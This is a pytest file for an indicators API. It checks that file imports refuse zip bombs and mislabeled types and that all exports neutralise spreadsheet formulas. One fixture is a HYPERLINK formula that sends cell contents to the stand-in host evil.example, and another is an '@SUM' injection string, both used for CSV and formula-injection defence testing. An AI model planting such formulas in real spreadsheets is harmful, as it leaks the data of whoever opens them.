"""The observation import judges a file by its bytes and refuses zip bombs before openpyxl opens
them; every export (observations as xlsx and csv, leaderboard, framework overview) writes text that
looks like a formula as text. People name indicators and their units; the exports' sources are fixed."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from reform_common.testfiles import declared_bomb, lying_sizes, many_entries, ratio_bomb

API = "/api/indicators/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OLD_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
UNIT = "@SUM(1+1)"


def workbook(rows: list[list]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def preview(client, as_user, name: str, data: bytes):
    return await client.post(f"{API}/observations/imports", headers=as_user("office"),
                             files={"file": (name, data, XLSX)}, data={"period": "2026-Q3"})


@pytest.mark.parametrize(("name", "data", "status", "code"), [
    ("数据.xlsx", declared_bomb(), 413, "imports.archive_unsafe"),  # declares 4 GB: refused unexpanded
    ("数据.xlsx", ratio_bomb(), 413, "imports.archive_unsafe"),  # 16 MB of zeros in 17 KB
    ("数据.xlsx", many_entries(), 413, "imports.archive_unsafe"),
    ("数据.xlsx", lying_sizes(), 422, "imports.damaged"),  # expands past what it declares
    ("数据.xlsx", "地区,指标代码,数值\n330100,SL-01,1\n".encode(), 415, "imports.type"),  # text named .xlsx
    ("数据.csv", workbook([["地区", "SL-01"]]), 415, "imports.type"),  # a workbook named .csv
    ("数据.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", 415, "imports.type"),
    ("数据.csv", b"\x89PNG\r\n\x1a\n" + bytes(32), 415, "imports.type"),
    ("数据.xls", OLD_XLS, 415, "imports.type"),
    ("数据.csv", b"", 422, "imports.empty"),
])
async def test_import_refuses_what_is_not_a_workbook_or_csv(client, as_user, name, data, status, code):
    resp = await preview(client, as_user, name, data)
    assert (resp.status_code, resp.json()["code"]) == (status, code), resp.text
    assert resp.headers["content-type"] == "application/problem+json"


async def test_real_workbooks_and_csv_still_import(client, as_user):
    rows = [["地区", "指标代码", "期间", "数值"], ["330100", "SL-01", "2026-Q3", 95.3]]
    as_xlsx = await preview(client, as_user, "../../数据\u202e.xlsx", workbook(rows))
    assert as_xlsx.status_code == 201, as_xlsx.text
    assert (len(as_xlsx.json()["rows"]), as_xlsx.json()["filename"]) == (1, "数据.xlsx")
    text = "\n".join(",".join(str(v) for v in row) for row in rows).encode("utf-8-sig")
    as_csv = await preview(client, as_user, "数据.txt", text)
    assert as_csv.status_code == 201 and len(as_csv.json()["rows"]) == 1


def no_formula(content: bytes) -> list:
    cells = [c for ws in load_workbook(io.BytesIO(content)).worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def as_text(cells: list, value: str) -> bool:
    found = [c for c in cells if c.value == value]
    return bool(found) and all(c.data_type == "s" and c.quotePrefix for c in found)


async def test_every_export_writes_formulas_as_text(client, as_user):
    office = as_user("office")
    created = await client.post(f"{API}/indicators", headers=office, json={
        "code": "SEC-01", "framework_code": "provincial", "name": HYPERLINK, "unit": UNIT})
    assert created.status_code == 201, created.text
    submitted = await client.post(f"{API}/observations", headers=office, json=[
        {"indicator": "SEC-01", "region": region, "period": "2026-Q3", "value": value, "source": "统计局"}
        for region, value in (("330100", 10), ("330200", 20), ("330300", 15))])
    assert submitted.status_code == 201, submitted.text
    approved = await client.post(f"{API}/observations/review", headers=office,
                                 json={"ids": [o["id"] for o in submitted.json()], "decision": "approve",
                                       "comment": "已核实"})
    assert approved.status_code == 200, approved.text

    long = await client.get(f"{API}/observations/export", headers=office,
                            params={"framework": "provincial", "period": "2026-Q3"})
    assert long.status_code == 200, long.text
    assert as_text(no_formula(long.content), HYPERLINK)

    wide = await client.get(f"{API}/observations/export", headers=office,
                            params={"framework": "provincial", "period": "2026-Q3", "layout": "wide"})
    assert any(c.value == f"SEC-01 {HYPERLINK}" for c in no_formula(wide.content))

    as_csv = await client.get(f"{API}/observations/export", headers=office,
                              params={"framework": "provincial", "period": "2026-Q3", "format": "csv"})
    assert as_csv.status_code == 200, as_csv.text
    values = [v for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for v in row]
    assert "'" + HYPERLINK in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]

    overview = await client.get(f"{API}/frameworks/provincial/overview.xlsx", headers=office,
                                params={"period": "2026-Q3"})
    assert overview.status_code == 200, overview.text
    cells = no_formula(overview.content)
    assert as_text(cells, HYPERLINK) and as_text(cells, UNIT)

    board = await client.get(f"{API}/indicators/SEC-01/leaderboard.xlsx", headers=office,
                             params={"period": "2026-Q3"})
    assert board.status_code == 200, board.text
    assert any(c.value == f"数值（{UNIT}）" for c in no_formula(board.content))
